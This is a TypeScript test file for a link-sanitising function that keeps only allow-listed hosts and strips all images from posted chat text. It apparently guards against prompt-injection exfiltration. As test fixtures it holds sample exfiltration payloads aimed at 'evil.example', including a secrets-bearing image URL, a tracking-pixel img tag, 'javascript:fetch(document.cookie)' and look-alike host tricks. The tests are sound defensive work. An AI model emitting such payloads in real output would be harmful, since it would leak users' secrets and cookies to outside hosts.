// Text Tacit posts keeps links only to known hosts and never carries an image, so nothing leaks through a URL.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { restrictLinks } from '../../src/core/links.js';

interface InjectionCase { id: string; text: string; attack: string }
const corpus = JSON.parse(readFileSync(new URL('../fixtures/injection/corpus.json', import.meta.url), 'utf8')) as InjectionCase[];

const ALLOWED = ['github.com', 'grafana.acme.internal', 'runbooks.acme.internal'];

/** Every URL a chat client could still turn into a link or fetch (never inside a code span). */
function linkTargets(text: string): string[] {
  return [...text.replace(/`[^`]*`/g, '').matchAll(/\b(?:https?:\/\/|www\.)[^\s<>"'|)\]]+|\b(?:javascript|vbscript|data):\S+/gi)].map((m) => m[0]);
}

function hostOf(url: string): string {
  return new URL(/^www\./i.test(url) ? `https://${url}` : url).hostname;
}

describe('restrictLinks', () => {
  it('keeps a link to an allowed host unchanged', () => {
    const text = 'see https://github.com/acme/app/pull/12 for the fix';

    expect(restrictLinks(text, ['github.com'])).toEqual({ text, removed: [] });
  });

  it('keeps links to a subdomain of an allowed host', () => {
    const text = 'dashboard https://eu.grafana.acme.internal/d/abc and [api](https://api.github.com/repos/acme/app)';

    expect(restrictLinks(text, ALLOWED).text).toBe(text);
  });

  it('replaces a bare URL to another host and keeps the sentence around it', () => {
    expect(restrictLinks('read https://evil.example/x?d=1. Then stop.', ALLOWED)).toEqual({
      text: 'read [link removed: `evil.example`]. Then stop.',
      removed: ['https://evil.example/x?d=1'],
    });
  });

  it('removes a markdown link to another host, text and all', () => {
    expect(restrictLinks('[github.com/acme/app](https://evil.example/c?t=x "title")', ALLOWED).text).toBe('[link removed: `evil.example`]');
  });

  it('keeps an allowed markdown link whose URL has parentheses', () => {
    const text = '[run](https://github.com/acme/app/actions/runs/1(retry)) done';

    expect(restrictLinks(text, ALLOWED).text).toBe(text);
  });

  it('handles Slack-style links: keeps allowed ones, removes the rest', () => {
    const text = '<https://github.com/acme/app|app> and <https://evil.example/x|https://github.com/acme/app> and <https://evil.example>';

    expect(restrictLinks(text, ALLOWED)).toEqual({
      text: '<https://github.com/acme/app|app> and [link removed: `evil.example`] and [link removed: `evil.example`]',
      removed: ['https://evil.example/x', 'https://evil.example'],
    });
  });

  it.each([
    ['a markdown image to an allowed host', '![ci](https://github.com/acme/app/badge.svg)', 'github.com'],
    ['a markdown image elsewhere', '![x](https://evil.example/?d={{secrets}})', 'evil.example'],
    ['a reference-style image', '![x][ref]', 'unknown'],
    ['an HTML image', '<img src="https://evil.example/p.gif?d=1" width=1>', 'evil.example'],
    ['a data: image', '![x](data:image/png;base64,iVBORw0KGgo=)', 'data'],
    ['a protocol-relative image', '![x](//evil.example/p.png)', 'evil.example'],
    ['a relative image', '![x](/static/p.png)', 'relative'],
  ])('always removes %s', (_name, image, host) => {
    expect(restrictLinks(`before ${image} after`, ALLOWED).text).toBe(`before [image removed: \`${host}\`] after`);
  });

  it.each([
    ['a javascript: markdown link', "[docs](javascript:alert('x'))", 'javascript'],
    ['a bare javascript: URL', 'javascript:fetch(document.cookie)', 'javascript'],
    ['a bare data: URL', 'data:text/html;base64,PHNjcmlwdD4=', 'data'],
    ['a Slack-style data: link', '<data:text/html,hi|click>', 'data'],
    ['a protocol-relative markdown link', '[x](//evil.example/a)', 'evil.example'],
    ['a mailto: markdown link', '[mail](mailto:leak@evil.example?body=secret)', 'mailto'],
  ])('removes %s', (_name, link, host) => {
    expect(restrictLinks(`a ${link} b`, ALLOWED).text).toBe(`a [link removed: \`${host}\`] b`);
  });

  it.each([
    ['a look-alike host', 'https://github.com.evil.example/acme', 'github.com.evil.example'],
    ['a host that only ends with an allowed name', 'https://notgithub.com/acme', 'notgithub.com'],
    ['a userinfo trick', 'https://github.com@evil.example/acme', 'evil.example'],
    ['a percent-encoded host', 'https://%65vil.example/x', 'evil.example'],
    ['a www. link', 'www.evil.example/ping', 'www.evil.example'],
  ])('judges the host a click would reach, removing %s', (_name, url, host) => {
    expect(restrictLinks(url, ALLOWED).text).toBe(`[link removed: \`${host}\`]`);
  });

  it('does not rewrite its own markers when run again', () => {
    const once = restrictLinks('go www.evil.example and ![i](https://evil.example/i.png)(https://evil.example/b)', ALLOWED);

    expect(once.text).toBe('go [link removed: `www.evil.example`] and [image removed: `evil.example`]([link removed: `evil.example`])');
    expect(restrictLinks(once.text, ALLOWED)).toEqual({ text: once.text, removed: [] });
  });

  it('keeps the removed host inside its code span even when the host holds a backtick', () => {
    expect(restrictLinks('[x](https://a`www.evil.example/p)', ALLOWED).text).toBe('[link removed: `a_www.evil.example`]');
  });

  it('accepts allow-list entries written as URLs, wildcards or with a trailing dot', () => {
    const text = 'https://github.com/a https://x.sentry.io/b https://pagerduty.com/c';

    expect(restrictLinks(text, ['https://github.com/acme', '*.sentry.io', 'PagerDuty.com.']).text).toBe(text);
  });

  it('removes every link when nothing is allowed and leaves relative targets alone', () => {
    expect(restrictLinks('[a](https://github.com/x) [b](/docs/setup) [c](#top)', []).text).toBe(
      '[link removed: `github.com`] [b](/docs/setup) [c](#top)',
    );
  });

  it.each([
    ['a git SHA', 'reverted 3f786850e387550fdab836ed7e6dc881de23001b'],
    ['a UUID', 'request 123e4567-e89b-12d3-a456-426614174000'],
    ['ordinary words', 'the skeleton crew said data: none, javascript: no'],
    ['brackets and parentheses', 'see [note] (below) and a[i](j)'],
  ])('leaves %s alone', (_name, text) => {
    expect(restrictLinks(text, ALLOWED)).toEqual({ text, removed: [] });
  });

  describe('on the injection corpus', () => {
    const cases = corpus.map((c) => [c.id, c] as const);

    it.each(cases)('leaves %s with no image and no link outside the allow-list', (_id, c) => {
      const out = restrictLinks(c.text, ALLOWED).text;

      expect(out).not.toMatch(/!\[[^\]]*\]\s*[([]/);
      expect(out).not.toMatch(/<img\b/i);
      for (const target of linkTargets(out)) {
        expect(target, c.id).toMatch(/^https?:|^www\./i);
        const host = hostOf(target);
        expect(ALLOWED.some((h) => host === h || host.endsWith(`.${h}`)), `${c.id}: ${target}`).toBe(true);
      }
    });

    it.each(cases.filter(([, c]) => c.attack === 'image_exfiltration' || c.attack === 'link_exfiltration'))(
      'reports what it removed from %s',
      (_id, c) => {
        expect(restrictLinks(c.text, ALLOWED).removed.length).toBeGreaterThan(0);
      },
    );
  });
});
